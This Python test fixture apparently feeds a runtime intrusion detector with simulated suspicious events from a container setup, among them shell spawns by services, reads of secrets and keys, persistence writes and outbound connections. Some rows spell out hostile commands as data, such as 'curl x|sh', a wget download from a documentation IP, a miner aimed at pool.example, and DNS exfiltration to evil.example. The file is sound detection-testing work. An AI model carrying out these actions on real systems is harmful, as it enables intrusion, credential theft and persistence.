"""Single acts, each done by programs and shells that the mix itself uses: (name, what to look for in the finding, act)."""

# ruff: noqa: E501  tables: one row is one line

from collections.abc import Callable, Iterator

from probes.event import Event
from tests.models.scenarios.mix import CRON, ENTRY, NGINX, POSTGRES, WORKER
from tests.models.world import World, proc

SH = proc("/bin/sh", "-c", "x", parent=CRON)
CAT = proc("/bin/cat", "x", parent=SH)
GZIP = proc("/bin/gzip", "-9", "x", parent=SH)

Act = Callable[[World], Event | Iterator[Event]]
ACTS: tuple[tuple[str, str, Act], ...] = (
    ("worker starts a shell", "/bin/sh", lambda w: w.ran("/bin/sh", "-c", "id", by=WORKER)),
    ("web server starts a shell", "/bin/sh", lambda w: w.ran("/bin/sh", by=NGINX)),
    ("database starts a shell", "/bin/sh", lambda w: w.ran("/bin/sh", "-c", "curl x|sh", by=POSTGRES)),
    ("download by a tool never used", "/usr/bin/wget", lambda w: w.ran("/usr/bin/wget", "-qO", "/tmp/k", "http://203.0.113.9/k", by=SH)),
    ("download by a shell with the known tool", "/usr/bin/curl", lambda w: w.ran("/usr/bin/curl", "-so", "/tmp/k", "http://203.0.113.9/k", by=SH)),
    ("program dropped in /tmp and run", "/tmp/kdevtmpfsi", lambda w: w.ran("/tmp/kdevtmpfsi", "-o", "pool.example:3333", by=SH)),
    ("whoami by the shell", "/usr/bin/whoami", lambda w: w.ran("/usr/bin/whoami", by=SH)),
    ("known shell, command never run", "cat", lambda w: w.ran("/bin/sh", "-c", "cat /etc/shadow", by=CRON)),
    ("inline code in the interpreter", "code:", lambda w: w.ran("/usr/bin/python3.11", "-c", "import socket,pty", by=ENTRY)),
    ("script from /tmp", "/tmp/x.sh", lambda w: w.ran("/bin/sh", "/tmp/x.sh", by=ENTRY)),
    ("shadow read by cat", "/etc/shadow", lambda w: w.read(CAT, "/etc/shadow")),
    ("shadow refused to cat", "/etc/shadow", lambda w: w.read(CAT, "/etc/shadow", result=-13)),
    ("passwd read by cat", "/etc/passwd", lambda w: w.read(CAT, "/etc/passwd")),
    ("secret read by another program", "/run/secrets/db", lambda w: w.read(CAT, "/run/secrets/db")),
    ("secret read by the shell", "/run/secrets/db", lambda w: w.read(SH, "/run/secrets/db")),
    ("other secret read by the worker", "/run/secrets/payment", lambda w: w.read(WORKER, "/run/secrets/payment")),
    ("private key read by the worker", "/root/.ssh/id_rsa", lambda w: w.read(WORKER, "/root/.ssh/id_rsa")),
    ("tls key read by cat", "/etc/ssl/private/shop.key", lambda w: w.read(CAT, "/etc/ssl/private/shop.key")),
    ("env file read by the web server", "/app/.env", lambda w: w.read(NGINX, "/app/.env")),
    ("service account token", "/var/run/secrets/kubernetes.io/serviceaccount/token", lambda w: w.read(WORKER, "/var/run/secrets/kubernetes.io/serviceaccount/token")),
    ("cloud credentials", "/root/.aws/credentials", lambda w: w.read(SH, "/root/.aws/credentials")),
    ("environment of the database", "/environ", lambda w: w.read(CAT, "/proc/57/environ")),
    ("host's disk", "/dev/sda", lambda w: w.read(CAT, "/dev/sda")),
    ("database file read by cat", "/var/lib/postgresql/data/base/16384/16001", lambda w: w.read(CAT, "/var/lib/postgresql/data/base/16384/16001")),
    ("start-up file", "/etc/profile.d/x.sh", lambda w: w.wrote(SH, "/etc/profile.d/x.sh")),
    ("shell start file", "/root/.bashrc", lambda w: w.wrote(WORKER, "/root/.bashrc")),
    ("cron entry", "/etc/cron.d/x", lambda w: w.wrote(SH, "/etc/cron.d/x")),
    ("systemd unit", "/etc/systemd/system/x.service", lambda w: w.wrote(WORKER, "/etc/systemd/system/x.service")),
    ("preload", "/etc/ld.so.preload", lambda w: w.wrote(SH, "/etc/ld.so.preload")),
    ("authorized keys", "authorized_keys", lambda w: w.wrote(SH, "/root/.ssh/authorized_keys")),
    ("account", "/etc/passwd", lambda w: w.wrote(SH, "/etc/passwd")),
    ("program replaced", "/usr/bin/gzip", lambda w: w.wrote(GZIP, "/usr/bin/gzip")),
    ("web shell among uploads", "/data/uploads/x.php", lambda w: w.wrote(WORKER, "/data/uploads/x.php")),
    ("page changed", "/srv/www/index.html", lambda w: w.wrote(WORKER, "/srv/www/index.html")),
    ("application changed", "/app/models.py", lambda w: w.wrote(WORKER, "/app/models.py")),
    ("script dropped in /tmp", "/tmp/x.sh", lambda w: w.wrote(SH, "/tmp/x.sh")),
    ("file dropped by the shell in /tmp", "/tmp/kdevtmpfsi", lambda w: w.wrote(SH, "/tmp/kdevtmpfsi")),
    ("hidden directory", "/opt/.cache", lambda w: w.changed(SH, "mkdir", "/opt/.cache/x")),
    ("file made executable", "/tmp/k", lambda w: w.changed(WORKER, "chmod", "/tmp/k", mode=0o755)),
    ("set-user-id", "/tmp/k", lambda w: w.changed(SH, "chmod", "/tmp/k", mode=0o4755)),
    ("symlink swap", "/data/last", lambda w: w.changed(SH, "symlink", "/data/last", to="/etc/hosts")),
    ("history cleared", "/root/.bash_history", lambda w: w.changed(SH, "truncate", "/root/.bash_history")),
    ("history removed", "/root/.bash_history", lambda w: w.changed(SH, "unlink", "/root/.bash_history")),
    ("log removed", "/var/log/nginx/access.log", lambda w: w.changed(WORKER, "unlink", "/var/log/nginx/access.log")),
    ("new listener", "0.0.0.0:4444", lambda w: w.listened(WORKER, "0.0.0.0:4444")),
    ("new listener on a high port", "0.0.0.0:40404", lambda w: w.listened(WORKER, "0.0.0.0:40404")),
    ("new peer", "198.51.100.7:4444", lambda w: w.connected(WORKER, "198.51.100.7", 4444)),
    ("new peer by tls", "198.51.100.8:443", lambda w: w.connected(WORKER, "198.51.100.8", 443)),
    ("new neighbour", "172.17.0.9:6379", lambda w: w.connected(NGINX, "172.17.0.9", 6379)),
    ("new peer over ipv6", "2001:db8::7", lambda w: w.connected(WORKER, "2001:db8::7", 8443)),
    ("new datagram peer", "198.51.100.9:9999", lambda w: w.connected(WORKER, "198.51.100.9", 9999, proto="udp")),
    ("peer of the shell", "198.51.100.7:443", lambda w: w.connected(SH, "198.51.100.7", 443)),
    ("engine's socket", "/var/run/docker.sock", lambda w: w.joined(WORKER, "/var/run/docker.sock")),
    ("domain never asked for", "c2.evil.example", lambda w: w.asked(WORKER, "c2.evil.example")),
    ("data in names", "evil.example", lambda w: w.asked(SH, "a9" * 22 + ".t.evil.example")),
    ("mount refused", "mount", lambda w: w.called(SH, "mount", "/mnt", result=-1)),
    ("unshare refused", "unshare", lambda w: w.called(WORKER, "unshare", result=-1, flags="CLONE_NEWUSER")),
    ("ptrace of a stranger", "ptrace", lambda w: w.called(WORKER, "ptrace", target_relation="stranger", target_pid=57)),
    ("memory file", "memfd_create", lambda w: w.called(WORKER, "memfd_create", "x")),
    ("memory file run", "memfd:x", lambda w: w.event("exec", "exec", proc("/memfd:x (deleted)", "x", parent=WORKER), "/memfd:x", detail={"memfd": True})),
    ("packet socket", "packet", lambda w: w.event("listen", "bind", WORKER, "packet", detail={"family": "packet"})),
    ("program refused", "/data/uploads/x", lambda w: w.event("exec", "exec", SH, "/data/uploads/x", detail={"argv": ["x"]}, result=-13)),
    ("kill of a stranger", "kill", lambda w: w.called(SH, "kill", signal=9, target_relation="stranger")),
    ("user changed", "setuid", lambda w: w.called(WORKER, "setuid", "0")),
    ("device made", "/tmp/d", lambda w: w.changed(SH, "mknod", "/tmp/d", mode=0o060666)),
    ("rights of a file", "/etc/hosts", lambda w: w.changed(SH, "chmod", "/etc/hosts", mode=0o666)),
)  # fmt: skip
